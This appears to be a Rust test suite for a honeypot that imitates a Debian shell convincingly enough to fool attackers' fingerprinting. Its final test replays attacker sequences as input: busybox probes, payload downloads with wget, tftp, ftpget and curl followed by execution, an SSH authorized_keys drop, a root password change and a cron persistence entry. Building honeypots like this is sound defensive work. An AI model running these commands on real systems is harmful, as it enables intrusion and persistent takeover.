//! What gives other pretended shells away, one check each (research: what breaks today; shell fingerprints F8–F12).

use std::collections::BTreeSet;

use super::*;

/// Command, a text its output must hold, exit status.
fn check(cases: &[(&str, &str, i32)]) {
    let mut wrong = Vec::new();
    for (command, want, exit) in cases {
        let ran = exec(command);
        let all = format!("{}{}", text(&ran.stdout), text(&ran.stderr));
        if !all.contains(want) || ran.exit != *exit {
            wrong.push(format!("{command}: exit {} want {exit}; {want:?} not in {all:?}", ran.exit));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn what_broke_elsewhere_works() {
    check(&[
        ("df -h", "/dev/", 0),
        ("df -h /", "% /\n", 0),
        ("dmesg | head -1", "Linux version 6.1.0-", 0),
        ("mount", "on / type ext4 (rw,relatime", 0),
        ("printf 'b\\na\\n' | sort", "a\nb\n", 0),
        ("echo a b | xargs -n1 echo", "a\nb\n", 0),
        ("stat /etc/passwd", "Access: (0644/-rw-r--r--)  Uid: (    0/    root)   Gid: (    0/    root)", 0),
        ("printf abc | md5sum", "900150983cd24fb0d6963f7d28e17f72  -\n", 0),
        ("printf abc | sha256sum", "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad  -\n", 0),
        ("python3 -c 'print(1)'", "bash: python3: command not found\n", 127),
        ("top -bn1", "top - 10:20:30 up ", 0),
        ("ip a", "inet 192.0.2.17/24 brd 192.0.2.255 scope global ", 0),
        ("ss -antp", "198.51.100.9:40000", 0),
        ("systemctl", "ssh.service", 0),
        ("systemctl is-active ssh", "active\n", 0),
        ("lsb_release -a", "command not found", 127),
        ("openssl version", "OpenSSL 3.0.17 1 Jul 2025", 0),
        ("docker ps", "command not found", 127),
        ("x=1; echo $((x+1))", "2\n", 0),
        ("cat /etc/os-release", "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"", 0),
        ("cat /proc/mounts", " / ext4 rw,relatime", 0),
        ("echo -ne \"\\x7fELF\" > f; cat f | wc -c; wc -c < f; ls -l f", "4\n4\n-rw-r--r-- 1 root root 4 Jan 14 10:20 f\n", 0),
        ("sudo -l", "sudo: command not found", 127),
        ("ping -c1 x", "ping: x: Temporary failure in name resolution", 2),
        ("ssh -V", "OpenSSH_9.2p1 Debian-2+deb12u7, OpenSSL 3.0.17 1 Jul 2025\n", 0),
        ("dpkg -l openssh-server", "ii  openssh-server 1:9.2p1-2+deb12u7 amd64", 0),
        ("wget http://10.9.9.9/x", "Connecting to 10.9.9.9:80... failed: No route to host.", 4),
        ("wget -q http://evil.example/x", "", 4),
        ("curl -s http://evil.example/x", "", 6),
        ("which ls", "/usr/bin/ls\n", 0),
        ("gcc --version", "command not found", 127),
        ("php -v", "command not found", 127),
        ("lspci", "command not found", 127),
        ("ifconfig", "command not found", 127),
        ("ip -6 addr", "inet6 fe80::5054:ff:fe12:3456/64 scope link", 0),
        ("enable", "enable alias\n", 0),
        ("vi x", "bash: vi: command not found", 127),
        ("/bin/busybox ECCHI", "bash: /bin/busybox: No such file or directory", 127),
        ("sh", "", 0),
        ("crontab -l", "no crontab for root\n", 1),
        ("cat /proc/self/exe | head -c 4 | od -An -c", " 177   E   L   F", 0),
        ("ls -l /proc/self/fd/ /proc/$$/exe >/dev/null", "", 0),
        ("dmesg 2>&1 | wc -l; lscpu | grep -c 'CPU(s):'", "2\n", 0),
        ("hostname; hostname -f; hostname -I", "mail2\nmail2.example.org\n192.0.2.17 2001:db8::17 \n", 0),
        ("id", "uid=0(root) gid=0(root) groups=0(root)\n", 0),
        ("apt-get install -y nmap", "E: Unable to locate package nmap", 100),
    ]);
}

#[test]
fn shape_of_listings() {
    let root = out("ls -la /");
    assert!(root.starts_with("total 7") || root.starts_with("total 6"), "{root}");
    assert!(!root.contains("dockerenv"));
    assert!(root.contains("drwxrwxrwt"));
    assert!(root.contains(" bin -> usr/bin\n"));
    let ls = out("ls -lh $(which ls)");
    assert!(ls.starts_with("-rwxr-xr-x 1 root root 148K Sep 20  2022 /usr/bin/ls"), "{ls}");
    let ps = out("ps aux");
    let head = ps.lines().next().unwrap();
    assert_eq!(head, "USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND");
    let init: Vec<&str> = ps.lines().nth(1).unwrap().split_whitespace().collect();
    assert_eq!((init[0], init[1], init[10]), ("root", "1", "/sbin/init"));
    let vsz: u64 = init[4].parse().unwrap();
    assert!((100_000..300_000).contains(&vsz), "in KiB: {vsz}");
    assert!(ps.lines().count() > 60);
    assert!(ps.contains("sshd: root@notty"));
    assert!(ps.contains("nginx: master process"));
    assert!(out("ps -ef").starts_with("UID          PID    PPID  C STIME TTY          TIME CMD\n"));
    assert!(out("w").contains("USER     TTY      FROM             LOGIN@   IDLE   JCPU   PCPU WHAT\n"));
    let free = out("free -m");
    assert_eq!(free.lines().next().unwrap(), "               total        used        free      shared  buff/cache   available");
    assert_eq!(out("free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'").split_whitespace().count(), 6);
    assert_eq!(out("cat /proc/cpuinfo | grep name | wc -l"), out("nproc"));
}

#[test]
fn architecture_check_of_loaders() {
    let ran = exec("dd bs=52 count=1 if=/bin/echo");
    assert_eq!(ran.stdout.len(), 52);
    // Class 64, little endian; x86-64 at offset 18.
    assert_eq!(&ran.stdout[..6], b"\x7fELF\x02\x01");
    assert_eq!(&ran.stdout[18..20], b"\x3e\0");
    assert!(text(&ran.stderr).starts_with("1+0 records in\n1+0 records out\n52 bytes copied, "), "{}", text(&ran.stderr));
    assert_eq!(exec("cat /bin/echo").stdout.len(), 43_856);
    assert_eq!(out("cp /bin/echo /tmp/e; cmp /bin/echo /tmp/e && /tmp/e hi"), "hi\n");
    assert_eq!(out("stat -c %s /bin/ls; cat /bin/ls | wc -c"), "151344\n151344\n");
}

#[test]
fn identities_agree() {
    let all = out(
        "uname -r; cat /proc/sys/kernel/osrelease; cut -d' ' -f3 /proc/version; dpkg -l | grep -o 'linux-image-6[^ ]*'; ls /usr/lib/modules; ls /boot | grep vmlinuz",
    );
    let lines: Vec<&str> = all.lines().collect();
    let abi = lines[0];
    assert!(lines.iter().all(|l| l.contains(abi)), "{all}");
    assert_eq!(out("cat /etc/debian_version"), "12.12\n");
    assert_eq!(out("uname -v"), out("cut -d'#' -f2- /proc/version | sed 's/^/#/'"));
    assert_eq!(out("cat /etc/hostname; cat /proc/sys/kernel/hostname; uname -n"), "mail2\nmail2\nmail2\n");
    // Services in ss, ps and systemctl are the persona's.
    assert!(out("ss -tlnp").contains(":3306"));
    assert!(out("ps aux").contains("/usr/sbin/mariadbd"));
    assert!(out("systemctl status mariadb").contains("active (running)"));
    // The process that ss names is the one that ps shows.
    let pid = out("ss -tlnp | grep :80 | head -1 | sed 's/.*pid=\\([0-9]*\\).*/\\1/'");
    assert_eq!(out(&format!("ps -p {} -o comm=", pid.trim())), "nginx\n");
}

#[test]
fn own_session_is_visible() {
    let machine = machine();
    let mut shell = machine.login(login("root", "198.51.100.9:40000", true));
    let run = |shell: &mut Shell, line: &str| text(&shell.run(line.as_bytes(), EOF, NOW + 5_000_000_000).stdout);
    assert!(run(&mut shell, "w").contains("root     pts/0    198.51.100.9"));
    assert!(run(&mut shell, "who").contains("root     pts/0        2026-01-14 10:20 (198.51.100.9)"));
    assert!(run(&mut shell, "last | head -1").contains("still logged in"));
    assert_eq!(run(&mut shell, "tty"), "/dev/pts/0\n");
    let pid = run(&mut shell, "echo $$").trim().to_owned();
    let ps = run(&mut shell, "ps auxww");
    assert!(ps.contains("sshd: root@pts/0") && ps.contains("-bash"), "{ps}");
    assert!(run(&mut shell, "ps -p $$ -o comm=").starts_with("bash"));
    assert_eq!(
        run(&mut shell, &format!("readlink /proc/{pid}/exe; cat /proc/$$/comm; ls -l /proc/self/fd/0 | grep -c /dev/pts/0")),
        "/usr/bin/bash\nbash\n1\n"
    );
    assert_eq!(run(&mut shell, "echo $SSH_CLIENT; echo $SSH_TTY"), "198.51.100.9 40000 22\n/dev/pts/0\n");
    let second = machine.login(login("root", "198.51.100.9:40001", true));
    drop(second);
    assert!(
        text(shell.greeting())
            .starts_with("Linux mail2 6.1.0-39-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.148-1 (2025-08-26) x86_64\n\nThe programs included")
    );
    assert!(text(shell.greeting()).contains("\nLast login: "));
}

#[test]
fn volatile_moves_and_static_stays() {
    let machine = machine();
    let at = |command: &str, seconds: i64| {
        let mut shell = machine.login(Login { now_ns: NOW + seconds * 1_000_000_000, ..login("root", "198.51.100.9:40000", false) });
        text(&shell.run(command.as_bytes(), EOF, NOW + seconds * 1_000_000_000).stdout)
    };
    for command in [
        "uptime",
        "cat /proc/uptime",
        "cat /proc/loadavg",
        "free",
        "cat /proc/meminfo",
        "date",
        "cat /proc/stat",
        "echo $$",
        "cat /proc/net/dev",
        "head -c 8 /dev/urandom | od -x",
        "cat /proc/sys/kernel/random/uuid",
        "df",
    ] {
        assert_ne!(at(command, 0), at(command, 620), "{command}");
    }
    for command in [
        "uname -a",
        "cat /proc/cpuinfo",
        "ip a",
        "cat /etc/shadow",
        "lscpu",
        "mount",
        "ls -la /etc",
        "dpkg -l",
        "md5sum /bin/ls",
        "cat /proc/cmdline",
        "ls -la / | head -20",
    ] {
        assert_eq!(at(command, 0), at(command, 620), "{command}");
    }
    let up = |t: String| t.split(' ').next().unwrap().parse::<f64>().unwrap();
    let (before, after) = (up(at("cat /proc/uptime", 0)), up(at("cat /proc/uptime", 100)));
    assert!((after - before - 100.0).abs() < 1.5, "{before} {after}");
    let random: BTreeSet<String> = (0..5).map(|_| out("echo $RANDOM$RANDOM")).chain((0..5).map(|n| at("echo $RANDOM$RANDOM", n))).collect();
    assert!(random.len() >= 5, "{random:?}");
    // Values hang together: used and free make up the total.
    let sum = out("free -b | awk '/Mem/ {print ($3 <= $2), ($4 <= $2), ($7 <= $2)}'");
    assert_eq!(sum, "1 1 1\n");
}

#[test]
fn no_two_machines_alike() {
    let mut seen = BTreeSet::new();
    for seed in 0..40u8 {
        let machine = Machine::new(spec(seed)).unwrap();
        let facts = text(&exec_on(&machine, "cat /etc/shadow /etc/machine-id /etc/ssh/ssh_host_ed25519_key; cat /proc/cmdline; ps aux | md5sum; cat /proc/meminfo; uptime -s; md5sum /bin/ls").stdout);
        for part in [facts.clone(), facts.lines().last().unwrap().to_owned()] {
            assert!(seen.insert(part));
        }
        let names = text(&exec_on(&machine, "ls /home; cat /etc/passwd; ps aux; hostname").stdout);
        for bad in ["phil", "richard", "svr04", "nas3", "Jun22", "E5-2680"] {
            assert!(!names.contains(bad), "{bad}");
        }
        // The same seed never changes its mind.
        assert_eq!(
            text(&exec_on(&Machine::new(spec(seed)).unwrap(), "cat /etc/shadow /etc/machine-id; uptime -s").stdout),
            text(&exec_on(&machine, "cat /etc/shadow /etc/machine-id; uptime -s").stdout)
        );
    }
}

#[test]
fn error_texts_as_bash_gives_them() {
    let mut wrong = Vec::new();
    // Recorded from bash 5.2.15 and dash 0.5.12 of Debian 12.
    for (command, stderr, exit) in [
        ("nosuch", "bash: nosuch: command not found\n", 127),
        ("./nosuch", "bash: ./nosuch: No such file or directory\n", 127),
        ("/etc", "bash: /etc: Is a directory\n", 126),
        ("touch /tmp/nx; /tmp/nx", "bash: /tmp/nx: Permission denied\n", 126),
        ("cd /nope", "bash: cd: /nope: No such file or directory\n", 1),
        ("echo $((1/0)); echo after", "bash: 1/0: division by 0 (error token is \"0\")\n", 1),
        ("echo $((1+)); echo after", "bash: 1+: syntax error: operand expected (error token is \"+\")\n", 1),
        ("readonly r=1; r=2; echo after", "bash: r: readonly variable\n", 1),
        ("set -u; echo $x", "bash: x: unbound variable\n", 127),
        ("echo ${a b}", "bash: ${a b}: bad substitution\n", 1),
        ("if then", "bash: -c: line 1: syntax error near unexpected token `then'\nbash: -c: line 1: `if then'\n", 2),
        ("echo \"abc", "bash: -c: line 1: unexpected EOF while looking for matching `\"'\n", 2),
        ("for x in; do", "bash: -c: line 2: syntax error: unexpected end of file\n", 2),
        ("foo)", "bash: -c: line 1: syntax error near unexpected token `)'\nbash: -c: line 1: `foo)'\n", 2),
        ("echo $(ls", "bash: -c: line 2: unexpected EOF while looking for matching `)'\n", 2),
        ("cat <<X >/dev/null\nabc", "bash: warning: here-document at line 1 delimited by end-of-file (wanted `X')\n", 0),
        ("sh -c nosuch", "sh: 1: nosuch: not found\n", 127),
        ("sh -c 'echo a)'", "sh: 1: Syntax error: \")\" unexpected\n", 2),
        ("sh -c 'echo a > /nope/x'", "sh: 1: cannot create /nope/x: Directory nonexistent\n", 2),
        ("echo nosuch > s; bash s", "s: line 1: nosuch: command not found\n", 127),
        ("echo a > /nope/x", "bash: /nope/x: No such file or directory\n", 1),
        ("> /etc", "bash: /etc: Is a directory\n", 1),
        ("exec nosuch; echo a", "bash: exec: nosuch: not found\n", 127),
        ("[ 1 -eq a ]", "bash: [: a: integer expression expected\n", 2),
        ("[ 1 = ", "bash: [: missing `]'\n", 2),
        ("[ a b c ]", "bash: [: b: binary operator expected\n", 2),
        ("kill 999999", "bash: kill: (999999) - No such process\n", 1),
        ("type nosuch", "bash: type: nosuch: not found\n", 1),
        ("printf %d abc >/dev/null", "bash: printf: abc: invalid number\n", 1),
        (
            "break; return 1",
            "bash: break: only meaningful in a `for', `while', or `until' loop\nbash: return: can only `return' from a function or sourced script\n",
            1,
        ),
        ("let 1/0", "bash: let: 1/0: division by 0 (error token is \"0\")\n", 1),
        ("ls /nope", "ls: cannot access '/nope': No such file or directory\n", 2),
        ("cat /nope /etc", "cat: /nope: No such file or directory\ncat: /etc: Is a directory\n", 1),
        ("mkdir /etc", "mkdir: cannot create directory ‘/etc’: File exists\n", 1),
        ("rmdir /etc", "rmdir: failed to remove '/etc': Directory not empty\n", 1),
        (
            "rm /nope; rm /etc; rm",
            "rm: cannot remove '/nope': No such file or directory\nrm: cannot remove '/etc': Is a directory\nrm: missing operand\nTry 'rm --help' for more information.\n",
            1,
        ),
        (
            "cp /nope x; cp; mv a",
            "cp: cannot stat '/nope': No such file or directory\ncp: missing file operand\nTry 'cp --help' for more information.\nmv: missing destination file operand after 'a'\nTry 'mv --help' for more information.\n",
            1,
        ),
        ("touch /nope/x", "touch: cannot touch '/nope/x': No such file or directory\n", 1),
        ("chmod 999 /etc", "chmod: invalid mode: ‘999’\nTry 'chmod --help' for more information.\n", 1),
        ("chown foo /etc", "chown: invalid user: ‘foo’\n", 1),
        ("stat /nope", "stat: cannot statx '/nope': No such file or directory\n", 1),
        ("dd if=/nope", "dd: failed to open '/nope': No such file or directory\n", 1),
        ("find /nope", "find: ‘/nope’: No such file or directory\n", 1),
        ("tar xf nope", "tar: nope: Cannot open: No such file or directory\ntar: Error is not recoverable: exiting now\n", 2),
        ("id nosuch", "id: ‘nosuch’: no such user\n", 1),
        ("passwd nosuch", "passwd: user 'nosuch' does not exist\n", 1),
        ("echo x | chpasswd", "chpasswd: line 1: missing new password\nchpasswd: error detected, changes ignored\n", 1),
        ("grep '[' f", "grep: Unmatched [, [^, [:, [., or [=\n", 2),
        ("ls --foo", "ls: unrecognized option '--foo'\nTry 'ls --help' for more information.\n", 2),
        ("set -x; echo 'a b' $((1+1)) >/dev/null; x=1", "+ echo 'a b' 2\n+ x=1\n", 0),
    ] {
        let ran = exec(command);
        if (text(&ran.stderr).as_str(), ran.exit) != (stderr, exit) {
            wrong.push(format!("{command}: {} {:?}, not {exit} {stderr:?}", ran.exit, text(&ran.stderr)));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// The loaders of three families, up to the delivered sample.
#[test]
fn loaders_deliver_their_sample() {
    let machine = machine();
    let mut shell = machine.login(Login { via: Via::Telnet, ..login("root", "198.51.100.77:5555", true) });
    let files = std::cell::RefCell::new(Vec::new());
    let mut run = |line: &str| {
        let ran = shell.run(line.as_bytes(), EOF, NOW);
        files.borrow_mut().extend(ran.files_written.iter().cloned());
        (text(&ran.stdout), ran)
    };
    assert!(run("enable").0.contains("enable"));
    run("system");
    run("shell");
    run("sh");
    assert!(run("/bin/busybox ECCHI").0.contains("No such file or directory"));
    assert!(run("cat /proc/mounts; /bin/busybox ECCHI").0.contains("/dev/shm"));
    assert_eq!(
        run("cd /tmp || cd /var/run || cd /dev/shm; >.t && cp /bin/echo .t; >dvrHelper; chmod 777 .t dvrHelper; ls -a | grep -c dvr").0,
        "1\n"
    );
    assert!(run("cat /bin/echo | head -c 20 | od -An -tx1").0.contains("7f 45 4c 46"));
    assert_eq!(run("while read i; do echo $i; done < /proc/self/comm || echo fail").0, "bash\n");
    let sample: Vec<u8> = (0..=255u8).cycle().take(700).collect();
    for chunk in sample.chunks(128) {
        let hex: String = chunk.iter().map(|b| format!("\\x{b:02x}")).collect();
        run(&format!("echo -ne '{hex}' >> dvrHelper"));
    }
    assert_eq!(run("wc -c < dvrHelper").0, "700\n");
    let (_, ran) = run("./dvrHelper telnet.arm; echo done");
    assert!(text(&ran.stdout).contains("done"));
    assert_eq!(ran.executed.len(), 1);
    assert_eq!(*ran.executed[0].content, sample);
    let (_, ran) = run(
        "wget http://203.0.113.5/bins/x86 -O - > x; tftp -g -r x86 203.0.113.5; ftpget -u anonymous -p a 203.0.113.5 x x86; curl -O http://203.0.113.5/b.sh; sh b.sh; rm -rf dvrHelper",
    );
    let urls: Vec<String> = ran.downloads.iter().map(|d| format!("{} {}", d.tool, text(&d.url))).collect();
    assert_eq!(
        urls,
        ["wget http://203.0.113.5/bins/x86", "tftp tftp://203.0.113.5/x86", "ftpget ftp://203.0.113.5/x86", "curl http://203.0.113.5/b.sh"]
    );
    assert!(files.borrow().iter().any(|f| f.path == b"/tmp/dvrHelper" && *f.content == sample));
    // A key drop.
    let (_, ran) = run(
        "cd ~; rm -rf .ssh; mkdir .ssh; echo 'ssh-rsa AAAA mdrfckr' >> .ssh/authorized_keys; chmod -R go= ~/.ssh; ls -la .ssh | grep -c authorized",
    );
    assert_eq!(text(&ran.stdout), "1\n");
    assert_eq!(ran.files_written[0].path, b"/root/.ssh/authorized_keys");
    let (_, ran) =
        run("echo 'root:Secret1' | chpasswd; echo $?; (crontab -l 2>/dev/null; echo '* * * * * /tmp/x') | crontab -; crontab -l");
    assert_eq!(text(&ran.stdout), "0\n* * * * * /tmp/x\n");
    assert!(ran.files_written.iter().any(|f| f.path == b"/var/spool/cron/crontabs/root"));
}
